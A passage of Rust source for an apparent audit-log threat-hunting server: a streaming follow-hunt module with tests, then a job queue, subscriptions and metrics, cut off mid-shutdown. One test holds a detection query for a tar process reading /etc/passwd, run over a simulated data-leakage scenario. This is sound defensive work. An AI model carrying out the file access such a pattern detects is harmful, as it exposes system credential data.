    pub rows: Vec<Vec<String>>,
    /// True when the store had not changed and execution was skipped.
    pub unchanged: bool,
    /// Wall-clock time of this poll (≈ 0 when `unchanged`).
    pub elapsed: Duration,
}

impl FollowDelta {
    /// True when this poll surfaced nothing new.
    pub fn is_empty(&self) -> bool {
        self.new_matches == 0
    }
}

/// A standing hunt: one compiled plan plus the accumulated result of all
/// polls so far.
#[derive(Debug)]
pub struct FollowHunt {
    plan: Arc<CachedPlan>,
    mode: ExecMode,
    shard_threads: usize,
    seen: HashSet<MatchKey>,
    result: Option<HuntResult>,
    /// Raw-event high-water mark (`reduction().before`) of the last
    /// snapshot polled; appends are the only way results can change, so
    /// an equal mark lets the poll skip execution entirely.
    last_raw: Option<usize>,
    polls: usize,
}

impl FollowHunt {
    /// A follow hunt over an already compiled plan.
    pub fn new(plan: Arc<CachedPlan>, mode: ExecMode, shard_threads: usize) -> FollowHunt {
        FollowHunt {
            plan,
            mode,
            shard_threads: shard_threads.max(1),
            seen: HashSet::new(),
            result: None,
            last_raw: None,
            polls: 0,
        }
    }

    /// The canonical TBQL text of the standing query.
    pub fn tbql(&self) -> &str {
        &self.plan.tbql
    }

    /// Number of polls so far (including skipped ones).
    pub fn polls(&self) -> usize {
        self.polls
    }

    /// The running merged result, or `None` before the first poll.
    pub fn result(&self) -> Option<&HuntResult> {
        self.result.as_ref()
    }

    /// Evaluates the standing query against a snapshot and merges the
    /// delta into the running result. Snapshots must come from one
    /// growing store (polling across unrelated stores would produce
    /// deltas without meaning).
    pub fn poll(&mut self, snapshot: &ShardedStore) -> Result<FollowDelta, ServiceError> {
        self.polls += 1;
        let raw = snapshot.reduction().before;
        if self.last_raw == Some(raw) {
            return Ok(FollowDelta {
                unchanged: true,
                ..FollowDelta::default()
            });
        }

        let engine = ShardedEngine::with_threads(snapshot, self.shard_threads);
        let full = engine
            .execute(&self.plan.compiled, self.mode)
            .map_err(ServiceError::Engine)?;
        self.last_raw = Some(raw);

        // Extract the delta: matches no earlier poll has seen.
        let delta_matches: Vec<Match> = full
            .matches
            .iter()
            .filter(|m| self.seen.insert(match_key(m, snapshot)))
            .cloned()
            .collect();
        let (columns, mut delta_rows) = engine.project(&self.plan.compiled, &delta_matches);

        // Merge into the running result.
        let running = self.result.get_or_insert_with(|| HuntResult {
            columns,
            rows: Vec::new(),
            matches: Vec::new(),
            stats: full.stats.clone(),
        });
        running.stats = full.stats.clone();
        if self.plan.compiled.distinct {
            // Projection deduped within the delta; dedup against history
            // too so the running rows stay a distinct set.
            let known: HashSet<&Vec<String>> = running.rows.iter().collect();
            delta_rows.retain(|r| !known.contains(r));
        }
        let new_matches = delta_matches.len();
        running.matches.extend(delta_matches);
        let rows = delta_rows.clone();
        running.rows.extend(delta_rows);

        Ok(FollowDelta {
            new_matches,
            rows,
            unchanged: false,
            elapsed: full.stats.elapsed,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cache::PlanCache;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_storage::{SealPolicy, StreamingStore};
    use threatraptor_tbql::parser::FIG2_TBQL;

    fn follow(tbql: &str) -> FollowHunt {
        let cache = PlanCache::new();
        let (plan, _) = cache.plan(tbql).unwrap();
        FollowHunt::new(plan, ExecMode::Scheduled, 1)
    }

    #[test]
    fn attack_appears_as_a_delta_then_never_refires() {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(4_000)
            .build();
        let mut store = StreamingStore::new(true, SealPolicy::events(400));
        let mut hunt = follow(FIG2_TBQL);

        let mut total = 0usize;
        let mut fired_at = None;
        store.append_batch(&sc.log.entities, &[]);
        for (i, batch) in sc.log.events.chunks(500).enumerate() {
            store.append_batch(&[], batch);
            let delta = hunt.poll(&store.snapshot()).unwrap();
            assert!(!delta.unchanged);
            if !delta.is_empty() && fired_at.is_none() {
                fired_at = Some(i);
            }
            total += delta.new_matches;
        }
        assert!(fired_at.is_some(), "the attack must surface mid-stream");
        assert!(total > 0);

        // The final running result agrees with a from-scratch batch hunt.
        let batch = ShardedEngine::new(&store.snapshot())
            .hunt(FIG2_TBQL)
            .unwrap();
        let result = hunt.result().unwrap();
        assert_eq!(result.matches.len(), batch.matches.len());
        let norm = |rows: &[Vec<String>]| {
            let mut r = rows.to_vec();
            r.sort();
            r
        };
        assert_eq!(norm(&result.rows), norm(&batch.rows));
    }

    #[test]
    fn unchanged_snapshots_skip_execution() {
        let sc = ScenarioBuilder::new().seed(7).target_events(1_000).build();
        let mut store = StreamingStore::new(true, SealPolicy::manual());
        store.append_batch(&sc.log.entities, &sc.log.events);
        let mut hunt = follow(FIG2_TBQL);

        let first = hunt.poll(&store.snapshot()).unwrap();
        assert!(!first.unchanged);
        let second = hunt.poll(&store.snapshot()).unwrap();
        assert!(second.unchanged, "no appends → poll must be free");
        assert!(second.is_empty());
        assert_eq!(hunt.polls(), 2);
    }

    #[test]
    fn distinct_rows_stay_distinct_across_polls() {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(3_000)
            .build();
        let q = "proc p[\"%/bin/tar%\"] read file f[\"%/etc/passwd%\"] as e1\nreturn distinct p, f";
        let mut store = StreamingStore::new(true, SealPolicy::events(300));
        let mut hunt = follow(q);
        store.append_batch(&sc.log.entities, &[]);
        for batch in sc.log.events.chunks(400) {
            store.append_batch(&[], batch);
            hunt.poll(&store.snapshot()).unwrap();
        }
        let rows = &hunt.result().unwrap().rows;
        let mut deduped = rows.clone();
        deduped.sort();
        deduped.dedup();
        assert_eq!(rows.len(), deduped.len(), "distinct rows must not repeat");
        assert!(!rows.is_empty());
    }
}
