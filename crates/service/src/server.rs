//! The event-driven hunt server: one long-lived process serving ad-hoc
//! hunts and standing queries over a live audit stream.
//!
//! [`HuntServer`] ties the service layer's pieces into a server loop:
//!
//! * it owns an [`IngestService`] — collectors push chunks with
//!   [`HuntServer::append`] exactly as before;
//! * ad-hoc hunts go through a **persistent job queue**:
//!   [`HuntServer::submit`] enqueues onto a bounded queue (backpressure
//!   once full) drained by detached workers ([`crate::pool::WorkerPool`])
//!   and returns a [`JobHandle`] the caller can block on
//!   ([`JobHandle::wait`]) or poll ([`JobHandle::try_result`]); each job
//!   executes against a fresh snapshot through the shared
//!   [`crate::cache::PlanCache`];
//! * standing queries are **driven by ingest events, not client polls**:
//!   [`HuntServer::follow`] registers a [`FollowHunt`] and hands back a
//!   [`FollowSubscription`] — a per-subscription channel
//!   ([`crossbeam::channel`]). Every append/seal bumps the stream epoch
//!   and wakes the server's dispatcher thread, which takes **one**
//!   snapshot per epoch and fans it out to every registered follow hunt,
//!   delivering each non-empty delta through its subscription channel.
//!   Delivery inherits the follow layer's exactly-once identity keying:
//!   a subscriber sees each match identity once, with no explicit poll
//!   call anywhere.
//!
//! Shutdown is graceful: [`HuntServer::shutdown`] stops the queue,
//! drains already-accepted jobs (their handles complete), joins the
//! dispatcher and every worker, and disconnects subscription channels so
//! consumers' receive loops end cleanly.

use crate::cache::CacheStats;
use crate::follow::{FollowDelta, FollowHunt};
use crate::ingest::{IngestConfig, IngestService, IngestStatus};
use crate::job::{HuntJob, JobReport, ServiceError};
use crate::pool::WorkerPool;
use crate::profile::{HuntProfile, SlowHuntLog};
use crate::scheduler::execute_job;
use crossbeam::channel::{unbounded, Receiver, RecvTimeoutError, Sender, TryRecvError};
use std::fmt;
use std::time::{Duration, Instant};
use threatraptor_audit::parser::LogChunk;
use threatraptor_engine::{HuntResult, HuntStats};
use threatraptor_obs::{
    Counter, Histogram, MetricsSnapshot, Registry, TraceId, TraceSink, TraceTree, ROOT_SPAN,
};
use threatraptor_storage::{AppendOutcome, ShardedStore};
use threatraptor_sync::atomic::{AtomicBool, AtomicU64, Ordering};
use threatraptor_sync::thread::JoinHandle;
use threatraptor_sync::{Arc, Condvar, Mutex, PoisonError};

/// Construction parameters for a [`HuntServer`].
#[derive(Debug, Clone, Copy)]
pub struct ServerConfig {
    /// The owned ingest layer's configuration (seal policy, CPR,
    /// execution mode, per-hunt shard fan-out).
    pub ingest: IngestConfig,
    /// Ad-hoc hunt worker threads.
    pub workers: usize,
    /// Bound on queued (accepted, not yet executing) ad-hoc jobs;
    /// submission blocks — backpressure — once reached.
    pub queue_capacity: usize,
    /// How many per-job execution profiles the slow-hunt log retains
    /// (the worst-N by end-to-end latency).
    pub slow_hunt_capacity: usize,
}

impl Default for ServerConfig {
    fn default() -> ServerConfig {
        let cores = std::thread::available_parallelism()
            .map(|p| p.get())
            .unwrap_or(1);
        ServerConfig {
            ingest: IngestConfig::default(),
            workers: cores,
            queue_capacity: (2 * cores).max(8),
            slow_hunt_capacity: 32,
        }
    }
}

impl ServerConfig {
    /// Default server config over the given ingest configuration.
    pub fn with_ingest(ingest: IngestConfig) -> ServerConfig {
        ServerConfig {
            ingest,
            ..ServerConfig::default()
        }
    }

    /// Sets the worker count (clamped to ≥ 1).
    pub fn workers(mut self, workers: usize) -> ServerConfig {
        self.workers = workers.max(1);
        self
    }

    /// Sets the job-queue bound (clamped to ≥ 1).
    pub fn queue_capacity(mut self, capacity: usize) -> ServerConfig {
        self.queue_capacity = capacity.max(1);
        self
    }

    /// Sets the slow-hunt log retention (clamped to ≥ 1).
    pub fn slow_hunt_capacity(mut self, capacity: usize) -> ServerConfig {
        self.slow_hunt_capacity = capacity.max(1);
        self
    }
}

/// Identifier of a submitted job, unique within one server.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct JobId(pub u64);

impl fmt::Display for JobId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "job#{}", self.0)
    }
}

/// Completion slot shared between a [`JobHandle`] and the worker that
/// executes the job.
#[derive(Debug, Default)]
struct JobState {
    slot: Mutex<Option<JobReport>>,
    done: Condvar,
}

impl JobState {
    fn complete(&self, report: JobReport) {
        let mut slot = self.slot.lock().unwrap_or_else(PoisonError::into_inner);
        // First writer wins (a job is executed once; the Shutdown
        // fallback only fires when the queue rejected it).
        if slot.is_none() {
            *slot = Some(report);
        }
        drop(slot);
        self.done.notify_all();
    }
}

/// A submission handle: the caller's side of the job queue.
///
/// Cheap to hold; the result is delivered into the handle whether or not
/// anyone is waiting, so `wait`/`try_result` can be called at any time
/// (and repeatedly — they clone the report).
#[derive(Debug)]
pub struct JobHandle {
    id: JobId,
    trace_id: TraceId,
    state: Arc<JobState>,
}

impl JobHandle {
    /// The job's server-unique id.
    pub fn id(&self) -> JobId {
        self.id
    }

    /// The trace id propagated through submit → queue → worker; the
    /// same id keys the job's [`HuntProfile`] in the slow-hunt log.
    pub fn trace_id(&self) -> TraceId {
        self.trace_id
    }

    /// Blocks until the job completes and returns its report.
    pub fn wait(&self) -> JobReport {
        let mut slot = self
            .state
            .slot
            .lock()
            .unwrap_or_else(PoisonError::into_inner);
        loop {
            if let Some(report) = slot.as_ref() {
                return report.clone();
            }
            slot = self
                .state
                .done
                .wait(slot)
                .unwrap_or_else(PoisonError::into_inner);
        }
    }

    /// Blocks up to `timeout`; `None` if the job is still running.
    pub fn wait_timeout(&self, timeout: Duration) -> Option<JobReport> {
        let deadline = Instant::now() + timeout;
        let mut slot = self
            .state
            .slot
            .lock()
            .unwrap_or_else(PoisonError::into_inner);
        loop {
            if let Some(report) = slot.as_ref() {
                return Some(report.clone());
            }
            let now = Instant::now();
            if now >= deadline {
                return None;
            }
            let (guard, _) = self
                .state
                .done
                .wait_timeout(slot, deadline - now)
                .unwrap_or_else(PoisonError::into_inner);
            slot = guard;
        }
    }

    /// Non-blocking probe: `Some` once the job has completed.
    pub fn try_result(&self) -> Option<JobReport> {
        self.state
            .slot
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone()
    }
}

/// One delivery to a standing-query subscriber.
#[derive(Debug, Clone)]
pub struct FollowEvent {
    /// The stream epoch the delivering snapshot was taken at (the
    /// snapshot may include a few later appends — epochs only bound the
    /// delivery from below).
    pub epoch: u64,
    /// The newly appeared matches.
    pub delta: FollowDelta,
}

/// The subscriber's side of a standing query: a channel that receives a
/// [`FollowEvent`] for every non-empty delta, pushed by the server's
/// dispatcher — no polling. Dropping the subscription (or shutting the
/// server down) disconnects the channel, ending `recv` loops.
#[derive(Debug)]
pub struct FollowSubscription {
    id: u64,
    tbql: String,
    rx: Receiver<FollowEvent>,
}

impl FollowSubscription {
    /// Subscription id (for [`HuntServer::unfollow`] and
    /// [`HuntServer::follow_result`]).
    pub fn id(&self) -> u64 {
        self.id
    }

    /// Canonical TBQL text of the standing query.
    pub fn tbql(&self) -> &str {
        &self.tbql
    }

    /// Blocks until the next delivery; `Err` once the server is shut
    /// down (or the subscription was removed) *and* the buffer is empty.
    pub fn recv(&self) -> Result<FollowEvent, crossbeam::channel::RecvError> {
        self.rx.recv()
    }

    /// Blocking receive with a deadline.
    pub fn recv_timeout(&self, timeout: Duration) -> Result<FollowEvent, RecvTimeoutError> {
        self.rx.recv_timeout(timeout)
    }

    /// Non-blocking receive.
    pub fn try_recv(&self) -> Result<FollowEvent, TryRecvError> {
        self.rx.try_recv()
    }

    /// The underlying channel receiver (for `select`-style integration
    /// or iteration).
    pub fn receiver(&self) -> &Receiver<FollowEvent> {
        &self.rx
    }
}

/// A registered standing query: the hunt state plus the sending half of
/// its subscription channel.
#[derive(Debug)]
struct FollowEntry {
    id: u64,
    hunt: FollowHunt,
    tx: Sender<FollowEvent>,
}

/// Epoch-keyed snapshot cache for the job workers: a burst of jobs with
/// no interleaved appends shares one open-window indexing pass instead
/// of paying it per job. Holding the lock across the build is
/// deliberate — it is exactly what collapses K concurrent identical
/// builds into one. A snapshot can be slightly *newer* than its epoch
/// label (an append between the epoch read and the build); jobs only
/// require freshness, so that is fine.
#[derive(Debug, Default)]
struct SnapshotCache {
    slot: Mutex<Option<(u64, ShardedStore)>>,
}

impl SnapshotCache {
    fn get(&self, ingest: &IngestService) -> ShardedStore {
        let mut slot = self.slot.lock().unwrap_or_else(PoisonError::into_inner);
        // Read the epoch *after* taking the lock: a pre-lock read could
        // carry a stale label past a concurrent refill and overwrite a
        // newer snapshot with an older epoch tag, forcing every
        // subsequent same-epoch job to rebuild.
        let epoch = ingest.epoch();
        if let Some((cached_epoch, snapshot)) = slot.as_ref() {
            if *cached_epoch == epoch {
                return snapshot.clone();
            }
        }
        let snapshot = ingest.snapshot();
        *slot = Some((epoch, snapshot.clone()));
        snapshot
    }
}

/// Registry handles for the job path, cloned into each submission
/// closure.
#[derive(Debug, Clone)]
struct JobObs {
    /// `jobs_submitted_total` / `jobs_completed_total` /
    /// `jobs_rejected_total`.
    submitted: Arc<Counter>,
    completed: Arc<Counter>,
    rejected: Arc<Counter>,
    /// `job_queue_wait_ns`: submit → worker pickup.
    queue_wait_ns: Arc<Histogram>,
    /// `job_exec_ns`: worker execution (resolution + hunt).
    exec_ns: Arc<Histogram>,
    /// `job_latency_ns{status=...}`: submit → completion (wait +
    /// execution), labeled by outcome so panicked or rejected jobs
    /// never pollute the success-latency series.
    latency_ok: Arc<Histogram>,
    latency_error: Arc<Histogram>,
    latency_panicked: Arc<Histogram>,
    latency_rejected: Arc<Histogram>,
    /// `hunt_stage_ns{stage=scan|propagate|join|project}` for job
    /// executions (the cache adds parse/analyze/compile/synthesize).
    hunt_trace: TraceSink,
}

impl JobObs {
    fn new(registry: &Arc<Registry>) -> JobObs {
        let latency = |status| registry.histogram_labeled("job_latency_ns", &[("status", status)]);
        JobObs {
            submitted: registry.counter("jobs_submitted_total"),
            completed: registry.counter("jobs_completed_total"),
            rejected: registry.counter("jobs_rejected_total"),
            queue_wait_ns: registry.histogram("job_queue_wait_ns"),
            exec_ns: registry.histogram("job_exec_ns"),
            latency_ok: latency("ok"),
            latency_error: latency("error"),
            latency_panicked: latency("panicked"),
            latency_rejected: latency("rejected"),
            hunt_trace: TraceSink::new(Arc::clone(registry), "hunt_stage_ns"),
        }
    }

    /// The latency series for an outcome label.
    fn latency(&self, status: &str) -> &Arc<Histogram> {
        match status {
            "ok" => &self.latency_ok,
            "panicked" => &self.latency_panicked,
            "rejected" => &self.latency_rejected,
            _ => &self.latency_error,
        }
    }
}

/// Outcome label of a completed job, the `status` value of its
/// latency series and profile.
fn outcome_status(outcome: &Result<HuntResult, ServiceError>) -> &'static str {
    match outcome {
        Ok(_) => "ok",
        Err(ServiceError::Worker(_)) => "panicked",
        Err(ServiceError::Shutdown) | Err(ServiceError::Infeasible(_)) => "rejected",
        Err(_) => "error",
    }
}

/// Lays per-stage child spans under the exec span of a job trace:
/// one `scan:<pattern>` span per pattern (with rows-scanned and
/// shard-count attributes) followed by propagate/join/project. The
/// stats carry durations, not absolute times, so the spans are placed
/// back-to-back from the exec span's start — their *widths* are the
/// measured stage times; any exec time they don't cover (snapshot
/// resolution, plan-cache lookup) shows as the uncovered tail.
fn record_stage_spans(trace: &mut TraceTree, exec: usize, stats: &HuntStats) {
    let mut cursor = trace.span_start(exec);
    for (pattern, elapsed) in &stats.pattern_elapsed {
        let span = trace.add_span(exec, &format!("scan:{pattern}"), cursor, cursor + *elapsed);
        if let Some((_, rows)) = stats.rows_fetched.iter().find(|(id, _)| id == pattern) {
            trace.set_attr(span, "rows", *rows as i64);
        }
        if let Some((_, shards)) = stats.shard_rows.iter().find(|(id, _)| id == pattern) {
            trace.set_attr(span, "shards", shards.len() as i64);
        }
        cursor += *elapsed;
    }
    for (name, elapsed) in [
        ("propagate", stats.propagate_elapsed),
        ("join", stats.join_elapsed),
        ("project", stats.project_elapsed),
    ] {
        trace.add_span(exec, name, cursor, cursor + elapsed);
        cursor += elapsed;
    }
}

/// The long-lived, event-driven hunt server. See the module docs.
///
/// ```
/// use threatraptor_audit::LogFeed;
/// use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
/// use threatraptor_service::{HuntJob, HuntServer, ServerConfig};
///
/// let scenario = ScenarioBuilder::new()
///     .seed(42)
///     .attacks(&[AttackKind::DataLeakage])
///     .target_events(3_000)
///     .build();
/// let server = HuntServer::new(ServerConfig::default());
/// // A standing query: deltas arrive on the subscription channel as data
/// // streams in — no poll calls.
/// let (alerts, _) = server.follow(threatraptor_tbql::parser::FIG2_TBQL).unwrap();
/// // An ad-hoc hunt through the job queue.
/// let handle = server.submit(HuntJob::tbql(threatraptor_tbql::parser::FIG2_TBQL));
/// for chunk in LogFeed::by_events(&scenario.raw, 1_000) {
///     server.append(&chunk.unwrap());
/// }
/// assert!(handle.wait().outcome.is_ok());
/// assert!(server.wait_caught_up(std::time::Duration::from_secs(30)));
/// let delivered: usize = alerts.try_recv().map(|e| e.delta.new_matches).unwrap_or(0);
/// let _ = delivered;
/// server.shutdown();
/// ```
#[derive(Debug)]
pub struct HuntServer {
    ingest: Arc<IngestService>,
    pool: WorkerPool,
    follows: Arc<Mutex<Vec<FollowEntry>>>,
    /// Set once by [`HuntServer::shutdown`]; checked by the dispatcher
    /// and by submissions.
    shutdown: Arc<AtomicBool>,
    /// Last epoch the dispatcher finished fanning out (lags
    /// [`IngestService::epoch`] by the in-flight work).
    processed: Arc<AtomicU64>,
    dispatcher: Mutex<Option<JoinHandle<()>>>,
    /// Shared by the job workers: one snapshot build per epoch, not per
    /// job.
    snapshots: Arc<SnapshotCache>,
    next_job: AtomicU64,
    next_follow: AtomicU64,
    config: ServerConfig,
    /// Job-path telemetry over the ingest service's registry.
    job_obs: JobObs,
    /// Worst-N per-job execution profiles by end-to-end latency.
    slow_log: Arc<SlowHuntLog>,
}

impl HuntServer {
    /// Starts a server: spawns the worker pool and the follow dispatcher.
    pub fn new(config: ServerConfig) -> HuntServer {
        let ingest = Arc::new(IngestService::new(config.ingest));
        let follows: Arc<Mutex<Vec<FollowEntry>>> = Arc::default();
        let shutdown = Arc::new(AtomicBool::new(false));
        let processed = Arc::new(AtomicU64::new(ingest.epoch()));
        let snapshots: Arc<SnapshotCache> = Arc::default();
        let dispatcher = {
            let ingest = Arc::clone(&ingest);
            let follows = Arc::clone(&follows);
            let shutdown = Arc::clone(&shutdown);
            let processed = Arc::clone(&processed);
            let snapshots = Arc::clone(&snapshots);
            threatraptor_sync::thread::Builder::new()
                .name("hunt-dispatcher".into())
                .spawn(move || dispatch_loop(&ingest, &follows, &shutdown, &processed, &snapshots))
                .expect("spawning the dispatcher thread")
        };
        let job_obs = JobObs::new(ingest.registry());
        HuntServer {
            pool: WorkerPool::with_metrics(
                config.workers,
                config.queue_capacity,
                ingest.registry(),
            ),
            ingest,
            follows,
            shutdown,
            processed,
            dispatcher: Mutex::new(Some(dispatcher)),
            snapshots,
            next_job: AtomicU64::new(0),
            next_follow: AtomicU64::new(0),
            config,
            job_obs,
            slow_log: Arc::new(SlowHuntLog::new(config.slow_hunt_capacity)),
        }
    }

    /// The owned ingest service (appends through it wake the dispatcher
    /// exactly like [`HuntServer::append`]).
    pub fn ingest(&self) -> &Arc<IngestService> {
        &self.ingest
    }

    /// The server configuration.
    pub fn config(&self) -> &ServerConfig {
        &self.config
    }

    /// Appends one parsed chunk; the epoch bump wakes the dispatcher,
    /// which re-evaluates every standing query against one fresh
    /// snapshot and pushes deltas to subscribers.
    pub fn append(&self, chunk: &LogChunk) -> AppendOutcome {
        self.ingest.append(chunk)
    }

    /// Manually seals the open window's stable prefix; also an epoch
    /// bump.
    pub fn seal(&self) -> bool {
        self.ingest.seal()
    }

    /// Current stream state.
    pub fn status(&self) -> IngestStatus {
        self.ingest.status()
    }

    /// An immutable snapshot of everything ingested so far.
    pub fn snapshot(&self) -> ShardedStore {
        self.ingest.snapshot()
    }

    /// Plan/synthesis cache counters (shared by jobs and standing
    /// queries).
    pub fn cache_stats(&self) -> CacheStats {
        self.ingest.cache_stats()
    }

    /// The server-wide metrics registry (also reachable through
    /// [`HuntServer::ingest`]).
    pub fn registry(&self) -> &Arc<Registry> {
        self.ingest.registry()
    }

    /// A point-in-time snapshot of every server metric: storage gauges,
    /// plan-cache counters, hunt-stage and serving-stage latency
    /// histograms, job-queue telemetry, and follow-delivery counters.
    /// Render it with [`MetricsSnapshot::to_prometheus`] or
    /// [`MetricsSnapshot::to_json`].
    pub fn metrics(&self) -> MetricsSnapshot {
        let registry = self.ingest.registry();
        registry
            .gauge("follow_subscriptions")
            .set(self.follow_count() as i64);
        // How far the follow dispatcher trails the stream: ingested
        // epochs minus the last epoch fanned out (0 when caught up).
        let lag = self
            .ingest
            .epoch()
            .saturating_sub(self.processed.load(Ordering::Acquire));
        registry.gauge("dispatcher_epoch_lag").set(lag as i64);
        self.ingest.metrics()
    }

    /// The retained worst-N execution profiles, slowest first.
    pub fn slow_hunts(&self) -> Vec<Arc<HuntProfile>> {
        self.slow_log.slow_hunts()
    }

    /// The retained profile of a job, if it is (still) among the
    /// worst-N by latency. The job must have completed (profiles are
    /// recorded before the handle resolves, so a profile is visible as
    /// soon as [`JobHandle::wait`] returns).
    pub fn profile(&self, id: JobId) -> Option<Arc<HuntProfile>> {
        self.slow_log.profile(id)
    }

    /// Enqueues an ad-hoc hunt job. Blocks while the bounded queue is
    /// full (backpressure). The job executes against a current-epoch
    /// snapshot resolved when a worker picks it up (shared across a
    /// same-epoch burst of jobs); after [`HuntServer::shutdown`] the
    /// handle completes immediately with [`ServiceError::Shutdown`].
    pub fn submit(&self, job: HuntJob) -> JobHandle {
        // ordering: Relaxed — id allocation needs uniqueness only.
        let id = JobId(self.next_job.fetch_add(1, Ordering::Relaxed));
        let trace_id = TraceId::next();
        let state = Arc::new(JobState::default());
        let handle = JobHandle {
            id,
            trace_id,
            state: Arc::clone(&state),
        };
        self.job_obs.submitted.inc();
        let submitted_at = Instant::now();
        let fallback = (job.clone(), Arc::clone(&state));
        let ingest = Arc::clone(&self.ingest);
        let snapshots = Arc::clone(&self.snapshots);
        let slow_log = Arc::clone(&self.slow_log);
        let obs = self.job_obs.clone();
        let (shard_threads, mode) = (self.config.ingest.shard_threads, self.config.ingest.mode);
        let accepted = !self.shutdown.load(Ordering::Acquire)
            && self
                .pool
                .submit(Box::new(move || {
                    // The trace's root span is backdated to submission,
                    // so the queue wait is part of the profile.
                    let mut trace = TraceTree::started_at(trace_id, "job", submitted_at);
                    trace.set_attr(ROOT_SPAN, "job_id", id.0 as i64);
                    let wait = submitted_at.elapsed();
                    obs.queue_wait_ns.record_duration(wait);
                    trace.add_span(ROOT_SPAN, "queue_wait", Duration::ZERO, wait);
                    let exec_span = trace.begin("exec", ROOT_SPAN);
                    let snapshot = snapshots.get(&ingest);
                    let report = execute_job(
                        &snapshot,
                        ingest.cache(),
                        shard_threads,
                        mode,
                        id.0 as usize,
                        &job,
                    );
                    obs.exec_ns.record_duration(report.elapsed);
                    trace.set_attr(exec_span, "cache_hit", report.cache_hit);
                    let mut matches = 0;
                    if let Ok(result) = &report.outcome {
                        matches = result.matches.len();
                        result.stats.record_stages(&obs.hunt_trace);
                        record_stage_spans(&mut trace, exec_span, &result.stats);
                        trace.set_attr(exec_span, "matches", matches);
                    }
                    trace.end(exec_span);
                    let status = outcome_status(&report.outcome);
                    trace.set_attr(ROOT_SPAN, "status", status);
                    let latency = submitted_at.elapsed();
                    trace.finish();
                    slow_log.record(HuntProfile {
                        job_id: id,
                        trace_id,
                        tbql: report.tbql.clone(),
                        status,
                        cache_hit: report.cache_hit,
                        matches,
                        queue_wait: wait,
                        exec: report.elapsed,
                        latency,
                        trace,
                    });
                    // Record *before* completing the handle: a caller
                    // snapshotting metrics (or reading the slow-hunt
                    // log) right after wait() must see this job.
                    obs.latency(status).record_duration(latency);
                    obs.completed.inc();
                    state.complete(report);
                }))
                .is_ok();
        if !accepted {
            // Rejected jobs never executed — they get a latency sample
            // in the `rejected` series but no slow-hunt profile.
            self.job_obs.rejected.inc();
            self.job_obs
                .latency("rejected")
                .record_duration(submitted_at.elapsed());
            let (job, state) = fallback;
            state.complete(JobReport {
                index: id.0 as usize,
                job,
                tbql: None,
                outcome: Err(ServiceError::Shutdown),
                cache_hit: false,
                elapsed: Duration::ZERO,
            });
        }
        handle
    }

    /// Convenience: submit + wait.
    pub fn hunt(&self, tbql: &str) -> Result<HuntResult, ServiceError> {
        self.submit(HuntJob::tbql(tbql)).wait().outcome
    }

    /// Registers a standing query. The query is compiled once through
    /// the shared cache and seeded with everything ingested so far (the
    /// returned [`FollowDelta`] — matches already present at
    /// registration are *not* re-delivered on the channel). From then on
    /// every append drives deltas to the subscription with no poll call.
    pub fn follow(&self, tbql: &str) -> Result<(FollowSubscription, FollowDelta), ServiceError> {
        if self.shutdown.load(Ordering::Acquire) {
            return Err(ServiceError::Shutdown);
        }
        let (plan, _) = self.ingest.cache().plan(tbql).map_err(ServiceError::from)?;
        let tbql = plan.tbql.clone();
        let mut hunt = FollowHunt::new(
            plan,
            self.config.ingest.mode,
            self.config.ingest.shard_threads,
        );
        hunt.attach_metrics(self.ingest.registry());
        // ordering: Relaxed — id allocation needs uniqueness only.
        let id = self.next_follow.fetch_add(1, Ordering::Relaxed);
        // Unbounded on purpose: the dispatcher must never block on a slow
        // subscriber (deltas are small — rows of the new matches).
        let (tx, rx) = unbounded();
        // Seed *under the registry lock*: the dispatcher also fans out
        // under it, so no epoch can slip between this seeding snapshot
        // and the entry landing in the registry — an append racing the
        // registration is either covered by the seed or fanned out to
        // the already-registered entry afterwards. (Seeding outside the
        // lock would let a quiet-stream delta fall into the gap.)
        let initial = {
            let mut follows = self.follows.lock().unwrap_or_else(PoisonError::into_inner);
            // Re-check shutdown *under the lock*: shutdown() sets the
            // flag before it takes this lock to clear the registry, so a
            // false flag here guarantees our entry is covered by that
            // clear — no registration can slip in after it and leave a
            // never-disconnecting channel behind.
            if self.shutdown.load(Ordering::Acquire) {
                return Err(ServiceError::Shutdown);
            }
            let initial = hunt.poll(&self.snapshots.get(&self.ingest))?;
            follows.push(FollowEntry { id, hunt, tx });
            initial
        };
        Ok((FollowSubscription { id, tbql, rx }, initial))
    }

    /// Removes a standing query; its subscription channel disconnects.
    /// Returns whether the id was registered.
    pub fn unfollow(&self, id: u64) -> bool {
        let mut follows = self.follows.lock().unwrap_or_else(PoisonError::into_inner);
        let before = follows.len();
        follows.retain(|entry| entry.id != id);
        follows.len() < before
    }

    /// Number of registered standing queries.
    pub fn follow_count(&self) -> usize {
        self.follows
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .len()
    }

    /// The running merged result of a standing query (everything
    /// delivered so far), or `None` for an unknown id.
    pub fn follow_result(&self, id: u64) -> Option<HuntResult> {
        self.follows
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .iter()
            .find(|entry| entry.id == id)
            .and_then(|entry| entry.hunt.result().cloned())
    }

    /// Blocks until the dispatcher has fanned out every epoch ingested
    /// so far (or `timeout` elapses); returns whether it caught up.
    /// Useful at the end of a replay, before reading accumulated
    /// results.
    pub fn wait_caught_up(&self, timeout: Duration) -> bool {
        let deadline = Instant::now() + timeout;
        loop {
            if self.processed.load(Ordering::Acquire) >= self.ingest.epoch() {
                return true;
            }
            if Instant::now() >= deadline {
                return false;
            }
            threatraptor_sync::thread::sleep(Duration::from_millis(1));
        }
    }

    /// Graceful shutdown: stop accepting jobs, drain already-queued jobs
    /// (their handles complete), join the dispatcher and all workers,
    /// disconnect every subscription channel. Idempotent; also runs on
    /// drop.
    pub fn shutdown(&self) {
        // ordering: Release pairs with the Acquire loads in submit(),
        // follow(), and the dispatcher loop — a thread that observes
        // the flag also sees everything shut down before it. (SeqCst
        // would buy nothing: there is no second flag to order against.)
        self.shutdown.store(true, Ordering::Release);
        // Wake the dispatcher so it observes the flag now instead of at
        // its next timeout.
        self.ingest.poke();
        if let Some(handle) = self
            .dispatcher
            .lock()
